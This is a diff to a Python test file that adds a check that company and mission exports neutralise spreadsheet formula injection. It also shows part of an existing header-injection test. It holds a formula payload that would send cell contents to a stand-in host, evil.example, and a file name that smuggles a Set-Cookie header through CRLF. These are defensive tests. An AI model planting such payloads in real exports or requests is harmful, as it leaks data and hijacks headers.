@@ -229,3 +229,43 @@ def test_file_names_are_encoded_not_pasted():
     header = disposition('Меморандум "о сотрудничестве".pdf\r\nSet-Cookie: x=1')["Content-Disposition"]
     assert "\r" not in header and "\n" not in header and header.count('"') == 2
     assert header.startswith('attachment; filename="') and "filename*=UTF-8''%D0%9C%D0%B5" in header
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(instance, tmp_path):
+    """OWASP CSV injection: the web's company exports, the CLI's and the mission workbook write such a
+    name as text (CSV: with a leading apostrophe; Excel: a string cell, never a formula)."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+    from typer.testing import CliRunner
+
+    from hamkor.cli import app as cli
+    from hamkor.companies.registry import CompanyData
+    from hamkor.missions import documents
+    from hamkor.missions.service import MissionData
+
+    app, _ = instance
+    services = app.state.web.services
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    company = services.registry.create(CompanyData(name_ru=evil, country="RU", region="RU-ALT", city="-1+2"))
+    client = signed_in(app, "admin@security.org")
+    book = load_workbook(io.BytesIO(client.get("/companies/export.xlsx").content))
+    cells = [c for row in book.active.iter_rows() for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
+    rows = list(csv.reader(io.StringIO(client.get("/companies/export.csv").content.decode("utf-8-sig"))))
+    assert any("'" + evil in row for row in rows) and not any(evil in row for row in rows)
+    assert any("'-1+2" in row for row in rows)
+    out = tmp_path / "companies.csv"
+    listed = CliRunner().invoke(cli, ["--data-dir", str(services.settings.data_dir), "companies", "list", "-f", "csv",
+                                      "-o", str(out)])
+    assert listed.exit_code == 0, listed.output
+    cli_rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert cli_rows[1][1] == "'" + evil and cli_rows[1][4] == "'-1+2"
+    mission = services.missions.create(MissionData(
+        name="=1+1", host_territory="RU-ALT", visiting_territory="UZ-SI", timezone="Asia/Barnaul",
+        days=[{"date": "2027-03-01", "start": "10:00", "end": "12:00"}], slot_minutes=30, tables=1))
+    services.missions.add_participant(mission.id, company.id, "host", [evil])
+    workbook = load_workbook(io.BytesIO(documents.workbook(services.missions, mission)))
+    formulas = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
